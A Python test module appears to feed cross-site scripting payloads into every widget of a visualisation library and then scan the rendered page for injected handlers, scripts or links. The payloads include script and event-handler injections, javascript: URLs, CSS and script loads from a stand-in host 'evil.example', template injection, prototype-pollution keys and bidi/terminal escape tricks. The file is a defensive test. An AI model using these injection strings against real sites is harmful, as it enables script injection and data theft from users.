"""Names as a stranger's data set may have them, in every place of every widget where a name is drawn."""

from __future__ import annotations

from itertools import pairwise

import examples

HOST = "evil.example"
# each sets window.__xss or asks something of another host, where it is taken for anything but text
PAYLOADS = [
    "<img src=x onerror=window.__xss=1>",
    "<script>window.__xss=1</script>",
    f"<script src=https://{HOST}/a.js></script>",
    "javascript:window.__xss=1",
    '" onmouseover="window.__xss=1" x="',
    "' onfocus='window.__xss=1' autofocus tabindex='1",
    "<svg onload=window.__xss=1><animate onbegin=window.__xss=1 attributeName=x dur=1s>",
    "</title></text></svg><svg/onload=window.__xss=1>",
    f"red;background:url(https://{HOST}/b)",
    f"</style><style>*{{background:url(https://{HOST}/c)}}</style>",
    f"<link rel=stylesheet href=https://{HOST}/d.css><base href=https://{HOST}/>",
    '<iframe srcdoc="<script>parent.__xss=1</script>"></iframe>',
    f"<a href=javascript:window.__xss=1>click</a><form action=https://{HOST}/e><button>",
    f"![x](https://{HOST}/f) [y](javascript:window.__xss=1) <https://{HOST}/g>",
    "]]><!--<x:script xmlns:x='http://www.w3.org/1999/xhtml'>window.__xss=1</x:script>",
    "${window.__xss=1}{{constructor.constructor('window.__xss=1')()}}",
    "\u202egnp.exe\u2066 \u200f\x1b[31mred\x1b]8;;https://evil.example\x07link\x1b]8;;\x07",
    "__proto__",
    "constructor",
]
# as names of files and folders; those that are versions' names are printable, too
IN_PATHS = [p for p in PAYLOADS if "/" not in p and "\x1b" not in p]
ALL = " ".join(PAYLOADS)


class Wall(examples.MarkedWall):
    """A wall whose every word is one of theirs."""

    classes = PAYLOADS
    layers = PAYLOADS[:3]
    filters = {p: PAYLOADS for p in PAYLOADS}
    orders = PAYLOADS
    saves = PAYLOADS[:2]

    def __init__(self) -> None:
        super().__init__(40)

    def annotations(self, positions):
        out = []
        for p in positions:
            word = PAYLOADS[p % len(PAYLOADS)]
            marks = {
                "label": word,
                "boxes": [[0.1, 0.1, 0.5, 0.5, word]],
                "polygons": [[word, [[0.1, 0.9, 0.5, 0.5, 0.9, 0.9]]]],
                "masks": [[word, 4, 4, [0, 6, 10]]],
                "keypoints": [[word, [[0.7, 0.4, 2]]]],
            }
            layers = {name: {**marks, "score": 0.5} for name in self.layers}
            out.append({**marks, "caption": word, "prediction": {**marks, "score": 0.4}, "layers": layers})
        return out

    def find(self, where, by, descending):
        return list(range(self.n))

    def save(self, what, name, positions):
        raise ValueError(ALL)


class Jobs(examples.Jobs):
    def look(self):
        return [
            {"key": p, "name": p, "state": "failed", "epoch": 1, "epochs": 2, "step": 1, "steps": 2, "message": p}
            for p in PAYLOADS
        ]

    def resume(self, key):
        raise ValueError(ALL)


class Points(examples.MapSource):
    def caption(self, index):
        return PAYLOADS[index % len(PAYLOADS)]


def made() -> dict:
    """Every widget by its name, filled with these."""
    from veml_lab import widgets as w

    n, jpegs = len(PAYLOADS), [examples.jpeg(1)]
    nodes = [
        {"id": p, "kind": k, "name": p, "created": p, "detail": {"summary": p, p: p, "notes": [p], "tags": {p: p}}}
        for p, k in zip(PAYLOADS, ("data", "model", "training", "inference", "metadata") * n, strict=False)
    ]
    edges = [{"source": a, "target": b, "type": a, "operation": b} for a, b in pairwise(PAYLOADS)]
    distances = [[abs(i - j) for j in range(n)] for i in range(n)]
    lines = {p: {"data": p, "training": p, "said": p} for p in PAYLOADS}
    report = {"verdicts": {p: {"drifted": True, "text": p, p: p} for p in PAYLOADS}, "title": ALL, "worst": jpegs}
    spec = {"data": [{"type": "bar", "x": PAYLOADS, "y": [1] * n, "name": PAYLOADS[0]}], "layout": {}}
    return {
        "Chart": w.Chart({p: spec for p in PAYLOADS[:4]}, title=ALL),
        "LineageGraph": w.LineageGraph(nodes, edges, selected=PAYLOADS[0]),
        "SimilarityHeatmap": w.SimilarityHeatmap(
            PAYLOADS, dict.fromkeys(PAYLOADS[:4], distances), pictures=dict.fromkeys(PAYLOADS, jpegs), lines=lines,
            target=PAYLOADS[0], transfer="{donor} to {target}", offers=True, selected=PAYLOADS[:2],
        ),
        "SampleBrowser": w.SampleBrowser(Wall(), title=ALL, compare=["annotations", PAYLOADS[0]]),
        "DriftPlot": w.DriftPlot(**examples.drift() | report),
        "TrainingCurves": w.TrainingCurves({p: {q: [[0, 1], [1, 2]] for q in PAYLOADS} for p in PAYLOADS[:6]}),
        "RunTable": w.RunTable(
            [{"name": p, p: p, "x": 1.0, PAYLOADS[0]: 2.0} for p in PAYLOADS], metric="x", title=ALL
        ),
        "JobList": w.JobList(Jobs()),
        "ConfusionMatrix": w.ConfusionMatrix(
            PAYLOADS, [[1] * n] * n, kinds=dict.fromkeys(PAYLOADS, 3), title=ALL, selected=PAYLOADS[:2]
        ),
        "Comparison": w.Comparison(
            PAYLOADS, {p: {q: PAYLOADS for q in PAYLOADS[:4]} for p in PAYLOADS[:4]},
            bars={p: {p: [1.0] * n} for p in PAYLOADS}, title=ALL, kind="data",
        ),
        "EmbeddingMap": w.EmbeddingMap(
            [[i, -i] for i in range(n)], list(range(n)), PAYLOADS, source=Points(), title=ALL
        ),
        "Pages": w.Pages({p: p for p in PAYLOADS}, title=ALL, subtitle=ALL),
    }  # fmt: skip


# What a page must not hold: an attribute or an element that came out of a name.
FOUND = """() => {
    const found = window.__xss === undefined ? [] : ['window.__xss is set'];
    const walk = root => {
        for (const e of root.querySelectorAll('*')) {
            for (const a of e.attributes) {
                if (/^on/i.test(a.name)) found.push(`${e.tagName} ${a.name}=${a.value}`);
                if (/^(href|src|action|xlink:href)$/i.test(a.name) && !/^(#|data:|blob:)/.test(a.value)) {
                    const to = new URL(a.value, 'http://here/');
                    const bad = /^javascript:|evil.example$/.test(to.protocol + to.host);
                    if (bad) found.push(`${e.tagName} to ${a.value}`);
                }
                const foreign = /evil\\.example|__xss/.test(a.value);
                if (foreign && /^(style|srcdoc)$/i.test(a.name)) found.push(`${e.tagName} ${a.value}`);
            }
            const heavy = /^(script|style|iframe|base|link|form|x:script)$/i.test(e.localName);
            if (heavy && /__xss|evil\\.example/.test(e.outerHTML)) found.push(e.outerHTML.slice(0, 200));
            if (e.shadowRoot) walk(e.shadowRoot);
        }
    };
    walk(document);
    return found;
}"""
